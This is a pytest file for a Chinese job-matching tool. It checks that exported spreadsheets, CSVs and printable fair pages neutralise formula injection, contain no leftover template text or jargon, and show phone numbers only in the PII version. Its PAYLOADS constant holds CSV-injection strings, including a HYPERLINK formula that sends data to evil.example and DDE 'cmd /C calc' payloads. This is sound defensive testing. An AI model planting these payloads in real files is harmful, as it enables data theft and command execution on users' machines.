"""Every file the product writes for a person to open, scanned: no formula, no template text, no codes.

A small sample county is made with laborer names, post titles and employer names planted as
spreadsheet formula payloads (``=HYPERLINK(…)``, ``+…``, ``-…``, ``@…``, full-width ``＝``), and a
fair named and placed with a tab and a carriage return in front of ``=``. It is ingested,
trained, batched, reported and shortlisted through the real ``matcher`` commands, and then

* every ``.xlsx`` (opened with openpyxl, formulas not evaluated) and every ``.csv`` the report and
  the fair wrote is scanned for a cell a spreadsheet would run as a formula;
* every sheet, CSV and printable page is scanned for unfilled template text (``年龄N岁``,
  ``{…}``, ``%s``, ``None``, ``nan``) and for codes and jargon a caseworker cannot read
  (``public_welfare``, ``online``, ``Gini``, ``p99``, ``exposure`` …);
* the fair's printout is checked: one booth per post that has invitations, one section per
  village, phones only in the ``--with-pii`` printout;
* what ``matcher batch``, ``matcher fair shortlist`` and ``matcher recommend`` print reads as
  Chinese first.

The ingest rejects file is not scanned here: it is not written by these commands.
"""

from __future__ import annotations

import csv
import datetime as dt
import html as htmllib
import io
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from matcher.batch.report_tables import reason_form
from matcher.explain import KIND_ZH
from matcher.fair.workbook import BOOTH_HEADER, fair_workbook_table
from sampledata import generate
from service.cli import app
from service.render.cells import append_row, cell_value, write_csv
from store import dispose_engines, get_settings
from store.cells import is_formula_like

runner = CliRunner()
TODAY = dt.date.today().isoformat()
COUNTY = "610426"
#: What a hostile or careless clerk may type into a name or a title.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "＝1+1",
)
FAIR_NAME = "\t=1+1春风行动专场"
FAIR_PLACE = "\r=2+2马坊镇罗家村广场"
CJK = re.compile(r"[\u4e00-\u9fff]")
#: Unfilled template text: a placeholder letter before a Chinese unit, format fields, Python's blanks.
PLACEHOLDER = re.compile(r"(?<![A-Za-z])N[岁个人户条次]|\{[^{}]*\}|%[sdfr]\b|%\(|\b(?:None|nan|NaN|NaT|null)\b")
#: Codes and jargon a caseworker cannot read.
JARGON = re.compile(
    r"\b(?:home_based|workshop_home|workshop_factory|workshop_base|public_welfare|online|tfidf|gini|p99|"
    r"exposure\w*|top-k)\b|\b[a-z]+(?:_[a-z0-9]+)+\b",
    re.IGNORECASE,
)


def cli(*args: str):  # type: ignore[no-untyped-def]
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result


@dataclass
class Exports:
    home: Path
    fair_id: str
    report: Path
    fair: Path
    fair_pii: Path
    printed: dict[str, str] = field(default_factory=dict)

    def files(self, *suffixes: str) -> list[Path]:
        found = [p for d in (self.report, self.fair, self.fair_pii) for p in sorted(d.iterdir())]
        return [p for p in found if p.suffix in suffixes]


def _plant(files: dict[str, Path]) -> None:
    """Formula payloads as names, titles and employers; one post nobody can be invited to."""
    people = pd.read_csv(files["laborers"], dtype=str, keep_default_na=False)
    people["name"] = [PAYLOADS[i % len(PAYLOADS)] + "张三" for i in range(len(people))]
    people.to_csv(files["laborers"], index=False)
    posts = pd.read_csv(files["vacancies"], dtype=str, keep_default_na=False)
    posts["title"] = [PAYLOADS[i % len(PAYLOADS)] + posts.at[i, "title"] for i in range(len(posts))]
    posts["employer_name"] = [PAYLOADS[(i + 1) % len(PAYLOADS)] for i in range(len(posts))]
    # An open market post of the county whose age window nobody in the ledger fits: no invitation.
    empty = posts[(posts["county"] == "永寿县") & (posts["kind"] == "enterprise")].iloc[[0]].copy()
    empty["vacancy_id"] = "V0099999"
    empty[["age_min", "age_max", "status", "start_date"]] = ["79", "80", "open", "2020-01-01"]
    pd.concat([posts, empty], ignore_index=True).to_csv(files["vacancies"], index=False)


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Exports]:
    home = tmp_path_factory.mktemp("exports")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MATCHER_HOME", str(home))
        mp.setenv("MATCHER_DATABASE_URL", f"sqlite:///{home / 'matcher.db'}")
        mp.delenv("MATCHER_POLICY", raising=False)
        get_settings.cache_clear()
        files = generate(laborers=600, vacancies=80, seed=11, out=home / "sample").files
        _plant(files)
        cli("migrate")
        for kind in ("laborers", "vacancies", "placements"):
            taken = cli("ingest", kind, str(files[kind])).output
            assert "拒收0" in taken, taken
        cli("train")
        ex = Exports(home, "", home / "report", home / "fair", home / "fair_pii")
        ex.printed["batch"] = cli("batch").output
        cli("report", "latest", "--out", str(ex.report))
        created = cli("fair", "create", "--name", FAIR_NAME, "--date", TODAY, "--place", FAIR_PLACE, "--county", COUNTY)
        ex.fair_id = created.output.strip().splitlines()[-1]
        ex.printed["fair"] = cli("fair", "shortlist", ex.fair_id, "--out", str(ex.fair)).output
        cli("fair", "shortlist", ex.fair_id, "--out", str(ex.fair_pii), "--with-pii")
        seekers = pd.read_csv(files["laborers"], dtype=str, keep_default_na=False)
        first = seekers.loc[seekers["wants_job"] == "true", "laborer_id"].iloc[0]
        ex.printed["recommend"] = cli("recommend", first, "--k", "5").output
        yield ex
    get_settings.cache_clear()
    dispose_engines()


# ----------------------------------------------------------------------------- reading every cell


def xlsx_cells(path: Path) -> Iterator[tuple[str, object, str]]:
    """(where, value, data type) of every cell of every sheet, formulas as written (not evaluated)."""
    wb = load_workbook(path)
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        yield f"{path.name}!{ws.title}!{cell.coordinate}", cell.value, cell.data_type
    finally:
        wb.close()


def csv_cells(path: Path) -> Iterator[tuple[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")  # as a spreadsheet reads it: no newline translation
    for n, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for j, value in enumerate(row, start=1):
            yield f"{path.name}:{n}:{j}", value


def page_text(path: Path) -> str:
    body = re.sub(r"<style>.*?</style>", " ", path.read_text(encoding="utf-8"), flags=re.DOTALL)
    return htmllib.unescape(re.sub(r"<[^>]+>", "\n", body))


def every_text(ex: Exports) -> Iterator[tuple[str, str]]:
    for path in ex.files(".xlsx"):
        for where, value, _ in xlsx_cells(path):
            if isinstance(value, str):
                yield where, value
    for path in ex.files(".csv"):
        yield from csv_cells(path)
    for path in ex.files(".html"):
        for n, line in enumerate(page_text(path).splitlines(), start=1):
            yield f"{path.name}:{n}", line


# ----------------------------------------------------------------------------- §5 safe files out


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_export_holds_a_formula_cell(exports: Exports) -> None:
    books, tables = exports.files(".xlsx"), exports.files(".csv")
    assert len(books) == 3 and len(tables) >= 10, [p.name for p in books + tables]
    bad = [
        f"{where}: {value!r}"
        for path in books
        for where, value, kind in xlsx_cells(path)
        if kind == "f" or (isinstance(value, str) and is_formula_like(value))
    ]
    bad += [
        f"{where}: {value!r}"
        for path in tables
        for where, value in csv_cells(path)
        if is_formula_like(value) and not _number(value)  # -17 in a CSV is the number -17
    ]
    assert bad == [], "\n".join(bad[:20])


def test_the_payloads_reached_the_files_neutralised(exports: Exports) -> None:
    """The scan above means something: each payload is in the exports, as text behind a quote."""
    texts = [v for _, v in every_text(exports)]
    for payload in PAYLOADS:
        as_stored = unicodedata.normalize("NFKC", payload)  # the ingest folds full-width signs (＝ → =)
        assert any(("'" + payload) in v or ("'" + as_stored) in v for v in texts), payload
    pii = next(p for p in exports.files(".xlsx") if p.parent == exports.fair_pii)
    names = [v for _, v, _ in xlsx_cells(pii) if isinstance(v, str) and v.endswith("张三")]
    assert names and all(v.startswith("'") for v in names if v.lstrip("'")[0] in "=+-@＝")
    summary = {row[0]: row[1] for row in load_workbook(pii)["汇总"].iter_rows(min_row=2, max_col=2, values_only=True)}
    for shown, typed in ((summary["名称"], FAIR_NAME), (summary["地点"], FAIR_PLACE)):
        # stored as typed or with the leading tab / carriage return trimmed; either way behind a quote
        assert shown.startswith("'") and shown[1:].strip() == typed.strip(), (shown, typed)


def test_every_text_cell_of_a_workbook_is_stored_as_text(exports: Exports) -> None:
    for path in exports.files(".xlsx"):
        kinds = {kind for _, value, kind in xlsx_cells(path) if isinstance(value, str)}
        assert kinds == {"s"}, (path.name, kinds)


@pytest.mark.parametrize("payload", [*PAYLOADS, "\t=1+1", "\r=1+1", "＋1", "－1", "＠SUM(A1)"])
def test_the_cell_writers_neutralise_every_formula_start(tmp_path: Path, payload: str) -> None:
    wb = Workbook()
    ws = wb.active
    append_row(ws, [payload, 3, None, float("nan"), True, ["a", payload]])
    wb.save(tmp_path / "t.xlsx")
    values = [c.value for c in load_workbook(tmp_path / "t.xlsx").active[1]]
    # XML reads a carriage return back as a line feed; the cell still starts with the quote.
    assert values[0] == "'" + payload.replace("\r", "\n") and values[1] == 3 and values[4] == "是"
    assert values[2] is None and values[3] is None  # blanks stay blank: never "None" or "nan"
    write_csv(pd.DataFrame({payload: [payload, "普通"]}), tmp_path / "t.csv")
    cells = [v for _, v in csv_cells(tmp_path / "t.csv")]
    assert cells == ["'" + payload, "'" + payload, "普通"]
    assert cell_value("正常文本") == "正常文本" and cell_value(-2) == -2


def test_a_neutralised_booth_sheet_reads_back_as_it_was(exports: Exports) -> None:
    table = fair_workbook_table_filled(exports)
    assert len(table) == 1 and table.iloc[0]["结果"] == "录用"


def fair_workbook_table_filled(exports: Exports) -> pd.DataFrame:
    path = next(p for p in exports.files(".xlsx") if p.parent == exports.fair)
    wb = load_workbook(path)
    booth = next(ws for ws in wb.worksheets[1:] if tuple(c.value for c in ws[3]) == BOOTH_HEADER)
    booth.cell(4, 13).value = "录用"
    booth.cell(4, 4).value = "'" + "=L1"  # what a neutralised id would look like: read back without the quote
    filled = path.with_name("filled.xlsx")
    wb.save(filled)
    frame = fair_workbook_table(filled).frame
    assert frame.iloc[0]["劳动力编号"] == "=L1"
    return frame


# ----------------------------------------------------------------------------- §7 complete and Chinese


def test_no_template_text_reaches_a_sheet_or_a_page(exports: Exports) -> None:
    bad = [f"{where}: {value!r}" for where, value in every_text(exports) if PLACEHOLDER.search(value)]
    assert bad == [], "\n".join(bad[:20])


def test_flag_reasons_count_ages_in_real_bands(exports: Exports) -> None:
    assert reason_form("年龄58岁") == "年龄55–59岁" and reason_form("年龄60岁") == "年龄60–64岁"
    assert reason_form("小学文化") == "小学文化"
    reasons = pd.read_csv(exports.report / "flag_reasons.csv", encoding="utf-8-sig")
    ages = [r for r in reasons["原因"] if str(r).startswith("年龄")]
    assert ages and all(re.fullmatch(r"年龄\d+–\d+岁", r) for r in ages), ages


def test_sheets_and_pages_show_chinese_labels_not_codes_or_jargon(exports: Exports) -> None:
    bad = [
        f"{where}: {value!r}"
        for where, value in every_text(exports)
        if JARGON.search(value.replace("'", "")) and not value.startswith(("'", "http"))
    ]
    assert bad == [], "\n".join(bad[:30])


def test_report_csvs_have_the_workbooks_chinese_headers(exports: Exports) -> None:
    wb = load_workbook(next(exports.report.glob("report_*.xlsx")), read_only=True)
    for path in sorted(exports.report.glob("*.csv")):
        header = next(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        assert all(CJK.search(h) for h in header), (path.name, header)
    exposure = pd.read_csv(exports.report / "exposure.csv", encoding="utf-8-sig")
    assert set(exposure["岗位类型"]) <= set(KIND_ZH.values())
    sheet = [r for r in wb["岗位推荐人次"].iter_rows(min_row=1, max_row=1, values_only=True)][0]
    assert list(sheet) == list(exposure.columns)
    wb.close()


def _chinese_first(text: str) -> None:
    lines = [line for line in text.splitlines() if line.strip()]
    assert lines and CJK.search(lines[0]), text
    for line in lines:
        assert not JARGON.search(line), line


def test_batch_fair_and_recommend_print_chinese_first(exports: Exports) -> None:
    for name, text in exports.printed.items():
        _chinese_first(text)
        assert "Gini" not in text and "基尼" not in text and "top-k" not in text, (name, text)
    fair = exports.printed["fair"]
    assert len(fair.strip().splitlines()) <= 8, fair  # a short summary, then the files
    assert "零就业家庭" in fair and "邀请" in fair
    assert "\t" not in fair and "\r" not in fair  # the fair's name and place hold both: never raw on a terminal


# ----------------------------------------------------------------------------- printable fair


def _booth_sheets(path: Path) -> list[tuple[str, list[tuple[object, ...]]]]:
    wb = load_workbook(path)
    out = []
    for ws in wb.worksheets[1:]:
        rows = list(ws.iter_rows(values_only=True))
        if len(rows) >= 3 and tuple(rows[2][: len(BOOTH_HEADER)]) == BOOTH_HEADER:
            out.append((ws.title, rows[3:]))
    return out


def _invited_per_post(path: Path) -> dict[str, int]:
    wb = load_workbook(path, read_only=True)
    rows = list(wb["汇总"].iter_rows(values_only=True))
    start = [r[0] for r in rows].index("展位号") + 1
    return {str(r[1]): int(r[7]) for r in rows[start:] if r[0] is not None}


def test_the_fair_prints_one_booth_per_post_with_invitations(exports: Exports) -> None:
    for folder in (exports.fair, exports.fair_pii):
        book = folder / f"{exports.fair_id}-shortlist.xlsx"
        invited = _invited_per_post(book)
        assert invited["V0099999"] == 0 and sum(n > 0 for n in invited.values()) >= 3
        booths = _booth_sheets(book)
        assert len(booths) == sum(n > 0 for n in invited.values())
        assert all(rows and rows[0][3] for _, rows in booths)  # every booth sheet lists people
        page = (folder / f"{exports.fair_id}-shortlist.html").read_text(encoding="utf-8")
        assert page.count("class='booth'") == len(booths)
        texts = [v for _, v in every_text(exports)]
        assert not any("邀请0人" in t for t in texts)


def test_village_lists_one_section_per_village_phones_only_with_pii(exports: Exports) -> None:
    from store import get_engine, load_laborers

    people = load_laborers(get_engine(f"sqlite:///{exports.home / 'matcher.db'}"))
    phones = set(people["phone"].dropna())
    for folder, pii in ((exports.fair, False), (exports.fair_pii, True)):
        book = load_workbook(folder / f"{exports.fair_id}-shortlist.xlsx")
        villages = [ws for ws in book.worksheets if ws.title.startswith("村-")]
        assert villages
        heads = [tuple(c.value for c in ws[2]) for ws in villages]
        assert all(("联系电话" in h) == pii for h in heads), heads
        in_sheets = {str(v) for ws in villages for row in ws.iter_rows(min_row=3, values_only=True) for v in row}
        assert bool(in_sheets & phones) == pii
        page = (folder / f"{exports.fair_id}-shortlist.html").read_text(encoding="utf-8")
        sections = re.findall(r"<section class='village'><h2>(.*?) · 通知名单", page)
        assert len(sections) == len(set(sections)) == len(villages)  # one section (one page) per village
        assert any(p in page for p in phones) == pii
        assert ("<th>电话</th>" in page) == pii
